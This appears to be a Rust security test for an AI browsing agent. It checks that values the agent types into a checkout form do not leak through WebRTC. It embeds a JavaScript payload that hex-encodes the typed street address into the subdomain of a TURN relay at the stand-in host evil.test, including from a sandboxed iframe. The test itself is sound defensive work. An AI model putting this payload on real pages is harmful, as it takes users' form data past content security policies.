//! WebRTC, which can carry a value out in a DNS look-up and in datagrams. No rule of an extension and no content
//! security policy of a document controls it.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::thread;
use std::time::Duration;

use crate::egress::wait_for;
use crate::stage::{FORM, REQUEST, Stage, until_unchanged, wait_for_absence, wait_until};

/// Connects to a relay whose name contains the typed text, from the page and from a frame with an opaque origin.
const CALLS: &str = r#"<script>
  const inner = (name) => `<script>(${call})('${name}')<\/script>`;
  function call(name) {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `turn:${name}.evil.test:RELAY?transport=tcp`, username: 'a', credential: 'b' }] });
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(() => {});
  }
  const callAll = () => {
    const name = [...new TextEncoder().encode(document.forms[0].elements.street.value)].map((n) => n.toString(16)).join('').slice(0, 60) || 'none';
    try { call(name); } catch {}
    const el = document.createElement('iframe');
    el.sandbox = 'allow-scripts';
    el.srcdoc = inner('framed' + name.slice(0, 40));
    document.body.append(el);
    document.body.dataset.called = '';
  };
  addEventListener('input', () => setTimeout(callAll, 50));
  </script>"#;

#[test]
fn a_page_with_values_reaches_nothing_by_webrtc() {
    let relay = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = relay.local_addr().unwrap().port();
    let called = Arc::new(AtomicUsize::new(0));
    let counting = Arc::clone(&called);
    thread::spawn(move || {
        for _connection in relay.incoming() {
            counting.fetch_add(1, Ordering::SeqCst);
        }
    });
    let mut stage = Stage::new(44);
    stage.site.put("shop.test/checkout", &format!("{FORM}{}", CALLS.replace("RELAY", &port.to_string())));
    stage.serve(true);
    stage.browse();
    let url = stage.site.url("shop.test/checkout");
    stage.browser().open(&url);
    stage.browser().evaluate("callAll()");
    wait_until(|| {
        let calls = called.load(Ordering::SeqCst);
        if calls >= 2 { Ok(()) } else { Err(format!("{calls} connections without a task")) }
    });

    stage.task();
    stage.agent_until(None, "Deliver to");
    let before = until_unchanged(|| called.load(Ordering::SeqCst));
    let reply = stage.agent(Some(REQUEST));
    assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
    wait_for(&mut stage, "'called' in document.body.dataset");
    // The browser tries a relay, repeats the try, and then tries the next one within this time.
    wait_for_absence(Duration::from_secs(8));
    assert_eq!(called.load(Ordering::SeqCst), before, "the page connected to a relay after the fill");
    stage.no_value_got_out();
}
